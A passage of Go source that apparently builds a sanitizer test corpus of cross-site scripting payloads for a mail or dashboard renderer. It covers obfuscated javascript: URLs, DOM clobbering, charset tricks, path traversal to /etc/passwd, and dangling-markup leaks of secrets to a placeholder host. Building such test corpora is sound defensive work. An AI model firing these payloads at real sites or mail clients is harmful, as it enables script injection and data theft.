	`<object type="application/x-shockwave-flash" data="@URL@"><param name=movie value="@URL@"></object>`,
	`<object classid="clsid:x" codebase="@URL@" data="@URL@"></object>`,
	`<object><object data="@URL@"></object></object>`,
	`<embed src="@URL@">`,
	`<embed src="@URL@" type="text/html">`,
	`<embed src="javascript:@JS@">`,
	`<embed src="data:text/html,<script>@JS@</script>">`,
	`<embed code="@URL@" src="@URL@" pluginspage="@URL@">`,
	`<applet codebase="@URL@" code=x archive="@URL@"></applet><embed src="@URL@">`,
	`<portal src="@URL@"></portal><iframe src="@URL@"></iframe>`,
	`<fencedframe src="@URL@"></fencedframe><iframe src="@URL@"></iframe>`,
	`<webview src="@URL@"></webview><iframe src="@URL@"></iframe>`,
	`<noframes><iframe src="@URL@"></iframe></noframes><iframe src="@URL@"></iframe>`,
}

var heads = []string{
	`<meta http-equiv=refresh content="0;url=@URL@">`,
	`<meta http-equiv=refresh content="0; @URL@">`,
	`<meta http-equiv="Refresh" content="0,URL='@URL@'">`,
	`<META HTTP-EQUIV=REFRESH CONTENT="0;url=//@HOST@/x">`,
	`<meta http-equiv=refresh content="0;url=http://@CANARY@">`,
	`<meta http-equiv=refresh content="0;url=javascript:@JS@"><script>@JS@</script>`,
	`<meta http-equiv=refresh content="0;url=data:text/html,<script>@JS@</script>">`,
	`<meta http-equiv=refresh content="0;url=/">`,
	`<noscript><meta http-equiv=refresh content="0;url=@URL@"></noscript><meta http-equiv=refresh content="0;url=@URL@">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><script>@JS@</script>`,
	`<meta http-equiv="Content-Security-Policy" content="report-uri @URL@; img-src 'none'"><img src="@URL@">`,
	`<meta http-equiv="x-dns-prefetch-control" content=on><a href="@URL@">x</a>`,
	`<meta http-equiv="set-cookie" content="x=y"><script>@JS@</script>`,
	`<meta http-equiv=link content="<@URL@>;rel=stylesheet"><img src="@URL@">`,
	`<meta http-equiv=default-style content=x><link rel="alternate stylesheet" title=x href="@URL@">`,
	`<meta http-equiv="origin-trial" content=x><meta name=referrer content=unsafe-url><img src="@URL@">`,
	`<meta property="og:image" content="@URL@"><img src="@URL@">`,
	`<base href="http://@HOST@/"><img src=x>`,
	`<base href="http://@HOST@/"><script src=x></script>`,
	`<base target=_top href="http://@HOST@/"><link rel=stylesheet href=x>`,
	`<base href="javascript:/a/-@JS@//"><script>@JS@</script>`,
	`<base href="//@CANARY@/"><img src=x>`,
	`<link rel=stylesheet href="@URL@">`,
	`<link rel="stylesheet" href=//@HOST@/x>`,
	`<link rel=stylesheet href="http://@CANARY@">`,
	`<link rel=StyleSheet media=all href="@URL@">`,
	`<link rel="alternate stylesheet" title=x href="@URL@">`,
	`<link rel=stylesheet href="data:text/css,@import '@URL@';">`,
	`<link rel=stylesheet href="data:text/css,*{background:url(@URL@)}">`,
	`<link rel=icon href="@URL@">`,
	`<link rel="shortcut icon" href="@URL@"><link rel=apple-touch-icon href="@URL@">`,
	`<link rel=preload as=image href="@URL@">`,
	`<link rel=preload as=script href="@URL@">`,
	`<link rel=preload as=style href="@URL@">`,
	`<link rel=preload as=font crossorigin href="@URL@">`,
	`<link rel=preload as=fetch crossorigin href="@URL@">`,
	`<link rel=preload as=image imagesrcset="@URL@ 1x">`,
	`<link rel=modulepreload href="@URL@">`,
	`<link rel=prefetch href="@URL@">`,
	`<link rel=prefetch as=document href="http://@CANARY@">`,
	`<link rel=prerender href="@URL@">`,
	`<link rel="next prefetch" href="@URL@">`,
	`<link rel=dns-prefetch href="http://@HOST@">`,
	`<link rel=dns-prefetch href="//@HOST@">`,
	`<link rel=preconnect href="http://@HOST@">`,
	`<link rel=preconnect crossorigin href="http://@HOST@">`,
	`<link rel="preconnect dns-prefetch" href="https://@HOST@">`,
	`<link rel=preconnect href="http://@CANARY@">`,
	`<link rel=manifest href="@URL@">`,
	`<link rel=import href="@URL@"><link rel=stylesheet href="@URL@">`,
	`<link rel=search type="application/opensearchdescription+xml" href="@URL@"><link rel=stylesheet href="@URL@">`,
	`<link rel=pingback href="@URL@"><link rel=stylesheet href="@URL@">`,
	`<link rel=compression-dictionary href="@URL@"><link rel=prefetch href="@URL@">`,
	`<link rel=expect href="#x" blocking=render><link rel=stylesheet href="@URL@">`,
	`<link rel=canonical href="@URL@"><link rel=amphtml href="@URL@"><link rel=stylesheet href="@URL@">`,
	`<p>x</p><link rel=stylesheet href="@URL@"><p>y</p>`,
	`<title></title><meta charset=x><link rel=stylesheet charset=utf-7 href="@URL@">`,
	`<head><style>@import url(@URL@)</style></head>`,
}

var forms = []string{
	`<form action="@URL@"><button style="width:600px;height:300px">x</button></form>`,
	`<form action="@URL@" method=post><input type=submit style="width:600px;height:300px"></form>`,
	`<form action="http://@CANARY@"><input type=image alt=x style="width:600px;height:300px"></form>`,
	`<form action="javascript:@JS@"><button style="width:600px;height:300px">x</button></form>`,
	`<form action="data:text/html,<script>@JS@</script>"><button style="width:600px;height:300px">x</button></form>`,
	`<form><button formaction="@URL@" style="width:600px;height:300px">x</button></form>`,
	`<form><button formaction="javascript:@JS@" style="width:600px;height:300px">x</button></form>`,
	`<form><input type=submit formaction="javascript:@JS@" style="width:600px;height:300px"></form>`,
	`<form><input type=image src="@URL@" formaction="javascript:@JS@" style="width:600px;height:300px"></form>`,
	`<form id=f action="@URL@"></form><button form=f style="width:600px;height:300px">x</button>`,
	`<form id=f action="javascript:@JS@"></form><button form=f style="width:600px;height:300px">x</button>`,
	`<form action="@URL@" target=_top><button style="width:600px;height:300px">x</button></form>`,
	`<form action="/api/v1/session" method=post><button style="width:600px;height:300px">x</button></form>`,
	`<form action="mailto:x@@HOST@"><button formaction="@URL@" style="width:600px;height:300px">x</button></form>`,
	`<isindex action="@URL@" prompt=x><form action="@URL@"><button style="width:600px;height:300px">x</button></form>`,
	`<form action="@URL@"><label><input type=submit style="width:600px;height:300px"></label></form>`,
	`<form action="@URL@" method=dialog><button formmethod=get style="width:600px;height:300px">x</button></form>`,
	`<form action="@URL@"><input name=password type=password autocomplete=current-password style="width:600px;height:300px"></form>`,
	`<button onclick=@JS@ style="width:600px;height:300px">x</button>`,
	`<label onclick=@JS@ style="display:block;width:600px;height:300px">x</label>`,
	`<details><summary onclick=@JS@ style="width:600px;height:300px">x</summary>y</details>`,
	`<button popovertarget=p style="width:600px;height:300px">x</button><div popover id=p onbeforetoggle=@JS@>x</div>`,
	`<button commandfor=d command=show-modal style="width:600px;height:300px">x</button><dialog id=d onbeforetoggle=@JS@>x</dialog>`,
	`<select onpointerdown=@JS@ style="width:600px;height:300px"><option>x</select>`,
}

// links are addresses that run something when they are followed.
func links() []string {
	var all []string
	for _, at := range []string{
		"javascript:@JS@", "JaVaScRiPt:@JS@", " javascript:@JS@", "\tjavascript:@JS@", "java\tscript:@JS@", "java\nscript:@JS@", "java\rscript:@JS@", "javascript\t:@JS@", "\x01javascript:@JS@", "\x1fjavascript:@JS@",
		"java&#9;script:@JS@", "java&#10;script:@JS@", "java&Tab;script:@JS@", "java&NewLine;script:@JS@", "javascript&colon;@JS@", "javascript&#58;@JS@", "javascript&#x3a;@JS@", "&#106;avascript:@JS@", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:@JS@",
		"&#0000106avascript:@JS@", "javascript://x/%0a@JS@", "javascript://%0d@JS@", "javascript:/*--></title></style>*/@JS@", "javascript:void(@JS@)", "javascript:'<script>@JS@</script>'", "javascript:location='@URL@'", "javascript:top.@JS@",
		"jav\u00adascript:@JS@", "jav\u200bascript:@JS@", "\u2028javascript:@JS@", "\u00a0javascript:@JS@", "\ufeffjavascript:@JS@", "java\x00script:@JS@", "javascript\u200c:@JS@", "ｊavascript:@JS@", "javascript%3A@JS@",
		"data:text/html,<script>@JS@</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,<script>@JS@</script>", "data:text/html;charset=utf-7,+ADw-script+AD4-", "data:application/xhtml+xml,<x/>", "data:image/svg+xml,<svg onload=@JS@>",
		"data:,x", "da\nta:text/html,<script>@JS@</script>", "vbscript:msgbox(1)", "VBSCRIPT:x", "livescript:@JS@", "mocha:@JS@", "file:///etc/passwd", "blob:null/x", "filesystem:http://x/temporary/x", "about:blank", "about:srcdoc", "view-source:javascript:@JS@",
		"chrome://settings", "ms-word:ofe|u|@URL@", "search-ms:query=x", "intent://x#Intent;end", "jar:@URL@!/", "feed:javascript:@JS@", "cid:x", "/api/v1/me", "../../session", "#x", "?x", "//", "", "javascript:",
	} {
		all = append(all, `<a href="`+at+`" style="display:block;width:600px;height:300px">press</a>`)
	}
	return append(all,
		`<a href=javascript:@JS@ target=_blank style="display:block;width:600px;height:300px">press</a>`,
		`<a href=javascript:@JS@ target=_top style="display:block;width:600px;height:300px">press</a>`,
		`<a href=javascript:@JS@ rel=opener target=x style="display:block;width:600px;height:300px">press</a>`,
		`<a href="x" href="javascript:@JS@" style="display:block;width:600px;height:300px">press</a>`,
		`<a xlink:href="javascript:@JS@" href="javascript:@JS@" style="display:block;width:600px;height:300px">press</a>`,
		"<a href=`javascript:@JS@` style=\"display:block;width:600px;height:300px\">press</a>",
		`<base href="javascript:@JS@//"><a href="x" style="display:block;width:600px;height:300px">press</a>`,
		`<base target="<script>@JS@</script>"><a href="javascript:@JS@" style="display:block;width:600px;height:300px">press</a>`,
		`<map name=m><area shape=default href="javascript:@JS@"></map><img usemap=#m width=600 height=300 src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">`,
		`<svg width=600 height=300><a xlink:href="javascript:@JS@"><rect width=600 height=300 /></a></svg>`,
		`<svg width=600 height=300><a href="javascript:@JS@"><rect width=600 height=300 /></a></svg>`,
		`<svg width=600 height=300><a><animate attributeName=href to="javascript:@JS@" begin=0s dur=1ms fill=freeze /><rect width=600 height=300 /></a></svg>`,
		`<svg width=600 height=300><a><set attributeName=href to="javascript:@JS@" /><rect width=600 height=300 /></a></svg>`,
		`<svg width=600 height=300><a><animate attributeName=xlink:href values="javascript:@JS@" dur=9s repeatCount=indefinite /><rect width=600 height=300 /></a></svg>`,
		`<math style="font-size:200px" href="javascript:@JS@"><mi>press</mi></math>`,
		`<math style="font-size:200px"><mi href="javascript:@JS@" xlink:href="javascript:@JS@">press</mi></math>`,
		`<a href="https://x.example/" onclick=@JS@ style="display:block;width:600px;height:300px">press</a>`,
		`<p onclick=@JS@ onmousedown=@JS@ onpointerup=@JS@ style="width:600px;height:300px">press</p>`,
		`<a href="#x" ping="@URL@" style="display:block;width:600px;height:300px">press</a>`,
		`<a href="#x" attributionsrc="@URL@" ping="http://@CANARY@" style="display:block;width:600px;height:300px">press</a>`,
	)
}

// targets want to move the page around them by being opened.
var targets = []string{
	`<a id=a target=_top href="@URL@">x</a><script>document.getElementById("a").click();@JS@</script>`,
	`<form id=f target=_top action="@URL@"></form><script>f.submit();@JS@</script>`,
	`<form id=f target=_parent action="@URL@"></form><img src=x onerror=f.submit()>`,
	`<form id=f target=_blank action="@URL@"><input autofocus onfocus=f.submit()></form>`,
	`<form id=f action="@URL@"><input type=submit id=s></form><svg onload=s.click()>`,
	`<meta http-equiv="Window-target" content=_top><meta http-equiv=refresh content="0;url=@URL@">`,
	`<base target=_top><meta http-equiv=refresh content="0;url=@URL@">`,
	`<script>top.location.href="@URL@";@JS@</script>`,
	`<script>parent.location.replace("@URL@");@JS@</script>`,
	`<script>history.back();@JS@</script>`,
	`<script>top.document.forms[0]&&top.document.forms[0].submit();@JS@</script>`,
	`<script>window.name="x";top.name="y";@JS@</script>`,
	`<script>document.domain=document.domain;@JS@</script>`,
	`<script>if(top!=self)top.location=self.location;@JS@</script>`,
	`<script>print();@JS@</script>`,
	`<script>document.documentElement.requestFullscreen();@JS@</script>`,
}

// clobbers give elements names the dashboard, the browser or a library reads.
func clobbers() []string {
	var all []string
	for _, name := range strings.Fields(`location document window self top parent frames opener name cookie domain body head forms images scripts getElementById querySelector createElement
		addEventListener attributes children nodeName innerHTML textContent constructor __proto__ prototype toString fetch alert console URL history navigator localStorage React __TSR_ROUTER__
		__REACT_DEVTOOLS_GLOBAL_HOOK__ root main $RC $_TSR`) {
		all = append(all, fmt.Sprintf(`<form id="%[1]s" name="%[1]s"><input id="%[1]s" name="%[1]s"></form><a id="%[1]s" name="%[1]s" href="javascript:@JS@">x</a><img name="%[1]s" src="@URL@">`, name))
	}
	return all
}

const svgFile = `<svg xmlns="http://www.w3.org/2000/svg" onload="@JS@"><script>@JS@</script><image href="@URL@"/></svg>`

// cids name the files of a mail, or something else.
func cids() []tried {
	var all []tried
	add := func(html string, files ...file) { all = append(all, tried{class: "cid", html: html, files: files}) }
	for _, id := range []string{
		"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%00", "hostile.1@elsewhere.example", "1", "0", "-1", "*", "%", "%zz", "", " ", "<script>@JS@</script>", "x onerror=@JS@", "&quot; onerror=@JS@ x=&quot;", "&quot;><script>@JS@</script>",
		"javascript:@JS@", "http://@HOST@/x", "//@HOST@/x", "x?@URL@", "x#@URL@", "/api/v1/me", "data:image/svg+xml,x", "\u202ex", strings.Repeat("a", 3000),
	} {
		add(`<img src="cid:` + id + `" alt="x" onerror="@JS@"><img src="@URL@">`)
	}
	add(`<img src="cid:p@N@">`, file{"image/svg+xml", "p.svg", "p@N@", svgFile})
	add(`<img src="cid:p@N@">`, file{"image/png", "p.png", "p@N@", svgFile})
	add(`<img src="cid:p@N@">`, file{"text/html", "p.html", "p@N@", `<script>@JS@</script>`})
	add(`<img src="cid:p@N@">`, file{"image/gif", "p.gif", "p@N@", `GIF89a/*` + svgFile + `*/=1;@JS@`})
	add(`<img src="cid:p@N@">`, file{`image/png"onerror=@JS@`, "p.png", "p@N@", "\x89PNG\r\n\x1a\n<script>@JS@</script>"})
	add(`<iframe src="cid:p@N@"></iframe><object data="cid:p@N@"></object><script src="cid:p@N@"></script><img src="@URL@">`, file{"text/html", "p.html", "p@N@", `<script>@JS@</script>`})
	add(`<link rel=stylesheet href="cid:p@N@"><img src="@URL@">`, file{"text/css", "p.css", "p@N@", `@import "@URL@";`})
	add(`<img src="cid:p@N@"><img src="@URL@">`, file{"image/png", "p.png", "p@N@", "\x89PNG"}, file{"image/svg+xml", "q.svg", "p@N@", svgFile})
	add(`<a href="cid:p@N@">x</a><img src="@URL@">`, file{"text/html", "p.html", "p@N@", `<script>@JS@</script>`})
	add(`<img src="CID:P@N@" srcset="@URL@ 1x">`, file{"image/png", "p.png", "p@N@", "\x89PNG"})
	return all
}

// charsets hide what they say in the letters it is written with.
func charsets() []tried {
	const page = `<script>@JS@</script><img src="@URL@">`
	utf16Bytes := func(order binary.AppendByteOrder, bom bool) func(string) []byte {
		return func(s string) []byte {
			var b []byte
			if bom {
				b = order.AppendUint16(b, 0xfeff)
			}
			for _, u := range utf16.Encode([]rune(s)) {
				b = order.AppendUint16(b, u)
			}
			return b
		}
	}
	utf7 := func(s string) []byte {
		return []byte(strings.NewReplacer("<", "+ADw-", ">", "+AD4-", `"`, "+ACI-").Replace(s))
	}
	prefix := func(b string) func(string) []byte { return func(s string) []byte { return []byte(b + s) } }
	var all []tried
	add := func(charset, html string, encode func(string) []byte) {
		all = append(all, tried{class: "charset", html: html, charset: charset, encode: encode})
	}
	add("utf-7", page, utf7)
	add("us-ascii", `<meta charset=utf-7>`+page, utf7)
	add("x-user-defined", page, nil)
	add("utf-16", page, utf16Bytes(binary.BigEndian, true))
	add("utf-16le", page, utf16Bytes(binary.LittleEndian, false))
	add("utf-16be", page, utf16Bytes(binary.BigEndian, false))
	add("utf-8", page, utf16Bytes(binary.LittleEndian, true))
	add("utf-8", page, utf16Bytes(binary.BigEndian, true))
	add("us-ascii", page, prefix("\xef\xbb\xbf"))
	add("iso-8859-1", page, prefix("\xff\xfe"))
	add("iso-2022-jp", `<img alt="`+"\x1b$B"+`"><img alt="`+"\x1b(B"+`" src=x onerror=@JS@>`+page, nil)
	add("utf-8", `<meta charset=iso-2022-jp><img alt="`+"\x1b(J"+`\"><img src=x onerror=@JS@>`+page, nil)
	add("iso-2022-kr", page, prefix("\x1b$)C\x0e\x0f"))
	add("hz-gb-2312", `<img alt="~{">`+page, nil)
	add("shift_jis", `<img alt="`+"\x81"+`"><b title=" src=x onerror=@JS@ x=">`+page, nil)
	add("gb18030", `<img alt="`+"\x81\x30"+`" onerror=@JS@ src=x>`+page, nil)
	add("big5", `<img alt="`+"\xa1"+`"onerror=@JS@ src=x>`+page, nil)
	add("euc-jp", `<img alt="`+"\x8f"+`"onerror=@JS@ src=x>`+page, nil)
	add("utf-8", "\xc0\xbcscript\xc0\xbe@JS@\xc0\xbc/script\xc0\xbe"+page, nil)
	add("utf-8", "\xe0\x80\xbcscript\xe0\x80\xbe@JS@"+page, nil)
	add("utf-8", "<img alt=\"\xc3\" src=x onerror=@JS@ x=\"\">"+page, nil)
	add("utf-8", "<img alt=\"\xf0\x80\x80\" src=x onerror=@JS@>"+page, nil)
	add("utf-8", "\uff1cscript\uff1e@JS@\uff1c/script\uff1e"+page, nil)
	add("windows-1252", "\x8bscript\x9b@JS@\x8b/script\x9b"+page, nil)
	add("ibm037", page, nil)
	add("none-such", page, nil)
	add(`utf-8; x="<script>"`, page, nil)
	add("utf-8", "\u2028\u2029"+page, nil)
	add("utf-8", "<\u200bscript>@JS@</script>"+page, nil)
	add("utf-8", "<meta charset=utf-16><meta charset=x-mac-roman>"+page, nil)
	return all
}

// syntax is broken in ways that browsers mend.
func syntax() []string {
	all := []string{
		"<img src=x onerror=@JS@", "<img src=\"@URL@\" ", "<img src='@URL@", "<img src=\"@URL@", "<a href=\"@URL@\"><img src=@URL@", "<script>@JS@</script", "<script>@JS@</", "<iframe src=@URL@ <", "<svg onload=@JS@", "<svg onload=@JS@//",
		"<\x00script>@JS@</script><script>@JS@</script>", "<scr\x00ipt>@JS@</scr\x00ipt><script>@JS@</script>", "<img \x00src=x onerror=@JS@>", "<img src=x \x00onerror=@JS@>", "<img src=x onerror\x00=@JS@ onerror=@JS@>", "<img src=x on\x00error=@JS@ onerror=@JS@>", "\x00<img src=x onerror=@JS@>",
		"<img\x0bsrc=x onerror=@JS@><img src=x onerror=@JS@>", "<img\x0csrc=x\x0conerror=@JS@>", "<img/x/src=x//onerror=@JS@//>", "<img\rsrc=x\ronerror=@JS@>", "<img src=x\u00a0onerror=@JS@><img src=x onerror=@JS@>", "<img \" src=x onerror=@JS@>", "<img ' \" ` src=x onerror=@JS@>", "<img =x src=x onerror=@JS@>", "<img src=x onerror==@JS@ onerror=@JS@><img src=x onerror=@JS@>",
		"<img src=x title=a src=y onerror=@JS@ onerror=x>", "<img onerror=@JS@ src=x alt=a alt=b>", "<a href=https://ok.example href=javascript:@JS@>x</a><img src=@URL@>", "<p style=color:red style=background:url(@URL@)>x</p><p style=background:url(@URL@)>x</p>", "<img src=x onerror=\"@JS@\"x=y>", "<img src=x onerror='@JS@'\"x>",
		"<img src=`x` onerror=`@JS@`><img src=x onerror=@JS@>", "<img src=x onerror=@JS@ =\">\">", "<img src='x'onerror=@JS@>", "<img src=\"x\"onerror=\"@JS@\">", "<<img src=x onerror=@JS@>", "<<<<img src=x onerror=@JS@>>>>", "< img src=x onerror=@JS@><img src=x onerror=@JS@>", "</img src=x onerror=@JS@><img src=x onerror=@JS@>", "<img src=x onerror=@JS@></img/>",
		"<p <img src=x onerror=@JS@>>", "<p title=<img src=x onerror=@JS@>><img src=x onerror=@JS@>", "<p/><img/src=@URL@/>", "<x:img src=x onerror=@JS@><img src=x onerror=@JS@>", "<html:img src=x onerror=@JS@><img src=@URL@>", "<image/src=x/onerror=@JS@>", "<custom-element><img src=x onerror=@JS@></custom-element>", "<p is=x-y onclick=@JS@><img src=x onerror=@JS@>",
		"&#60;img src=x onerror=@JS@&#62;<img src=x onerror=@JS@>", "&amp;lt;img src=x onerror=@JS@&amp;gt;<img src=@URL@>", "&lt&lt;script&gt;@JS@<img src=@URL@>", "%3Cscript%3E@JS@%3C/script%3E<img src=@URL@>", "\\u003cscript\\u003e@JS@<script>@JS@</script>", "<img src=x onerror=\\u0063onsole.log(7000000+@N@)>",
		"</body></html><script>@JS@</script>", "</div></div></div></td></table></body></html><img src=@URL@>", "<html><body><html><body onload=@JS@>", "<html><head></head><frameset onload=@JS@><frame></frameset></html>", "<p></html><img src=@URL@>", "<body><body onload=@JS@><body background=@URL@>",
		"{{constructor.constructor('@JS@')()}}<img src=@URL@>", "${@JS@}<img src=@URL@>", "<%= @JS@ %><img src=@URL@>", "]]><script>@JS@</script>", "--><script>@JS@</script>", "*/</style><script>@JS@</script>", "\"></iframe><script>@JS@</script>", "'\"--></style></script><svg onload=@JS@>", "\"><base href=http://@HOST@/><img src=x>",
	}
	for _, deep := range []string{"div", "b", "table", "blockquote", "svg", "font", "a", "select", "template", "span"} {
		all = append(all, strings.Repeat("<"+deep+">", 600)+`<script>@JS@</script><img src="@URL@" onerror="@JS@">`)
	}
	return append(all, `<p `+strings.Repeat("x ", 3000)+`onclick=@JS@><img src=@URL@>`, strings.Repeat("<table><tr><td>", 200)+`<img src=x onerror=@JS@>`, strings.Repeat("<b><i><u><a href=x>", 120)+`<img src=x onerror=@JS@>`,
		`<!--`+strings.Repeat("-", 5000)+`><script>@JS@</script>`, strings.Repeat("<svg><desc>", 150)+`<img src=x onerror=@JS@>`)
}

// said are texts that stand in headers, names and plain text, where nothing may
// take them for HTML, an address or a formula.
var said = []string{
	`<script>@JS@</script>`, `<img src=x onerror=@JS@>`, `"><img src=x onerror=@JS@>`, `'><svg onload=@JS@>`, `<img src="@URL@">`, `</title><script>@JS@</script>`, `</textarea><img src="@URL@">`, `<iframe src="javascript:@JS@">`, `javascript:@JS@`, `&lt;img src=x onerror=@JS@&gt;`,
	`{{constructor.constructor("@JS@")()}}`, `${@JS@}`, `@URL@`, `[x](javascript:@JS@)`, `![x](@URL@)`, `<style>@import "@URL@"</style>`, `=HYPERLINK("@URL@")`, "\u202e<img src=x onerror=@JS@>\u202c", `__proto__`, `<meta http-equiv=refresh content="0;url=@URL@">`,
}

func words() []tried {
	var all []tried
	for _, s := range said {
		all = append(all, tried{class: "subject", subject: s, html: `<p>x</p>`}, tried{class: "sender", from: s, html: `<title>` + s + `</title><p>x</p>`},
			tried{class: "name", html: `<p>x</p>`, files: []file{{"application/pdf", s + ".pdf", "", "%PDF-1.4"}}})
	}
	return all
}

func plains() []tried {
	var all []tried
	for _, s := range said {
		all = append(all, tried{class: "plain", plain: "Please send this by Friday: " + s + "\n\nWe decided to use " + s + " on the job."})
	}
	return all
}

// files are pages that came as files, and would act if they were opened here.
func files() []tried {
	var all []tried
	for _, f := range []file{
		{"text/html", "x.html", "", `<script>@JS@</script><img src="@URL@">`},
		{"text/html; charset=utf-7", "x.htm", "", `+ADw-script+AD4-@JS@+ADw-/script+AD4-`},
		{"image/svg+xml", "x.svg", "", svgFile},
		{"application/xhtml+xml", "x.xhtml", "", `<html xmlns="http://www.w3.org/1999/xhtml"><script>@JS@</script></html>`},
		{"text/xml", "x.xml", "", `<?xml-stylesheet href="@URL@" type="text/xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">@JS@</x:script>`},
		{"application/pdf", "x.pdf", "", `<script>@JS@</script>`},
		{"image/png", "x.png.html", "", `<script>@JS@</script><img src="@URL@">`},
		{"application/octet-stream", "x.html", "", `<script>@JS@</script><img src="@URL@">`},
		{"text/javascript", "x.js", "", `@JS@`},
		{"multipart/related", "x.mhtml", "", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>@JS@</script>"},
		{"text/plain", "x.txt", "", `<script>@JS@</script>`},
		{"text/html", "..\\..\\x\r\nContent-Type: text/html\r\n\r\n.html", "", `<script>@JS@</script>`},
	} {
		all = append(all, tried{class: "file", html: `<p>x</p>`, files: []file{f}})
	}
	return all
}

// splits leave something open that the next part would fall into.
func splits() []tried {
	var all []tried
	for _, first := range []string{
		`<img src="http://@HOST@/?`, `<img src='http://@HOST@/?`, `<a href="http://@HOST@/?`, `<form action="@URL@"><textarea name=x>`, `<form action="@URL@"><select><option>`, `<style>*{background:url("@URL@?`, `<link rel=stylesheet href="http://@HOST@/?`,
		`<iframe src="http://@HOST@/?`, `<meta http-equiv=refresh content="0;url=http://@HOST@/?`, `<script>x="`, `<!-- `, `<plaintext>`, `<base href="http://@HOST@/"><p title="`, `<table><td background="http://@HOST@/?`, `<svg><image href="http://@HOST@/?`, `<button form=x formaction="http://@HOST@/?`,
	} {
		all = append(all, tried{class: "split", html: first, parts: []string{`<p>The secret of part @N@.</p>`, `"></a><script>@JS@</script>`}})
	}
	return all
}
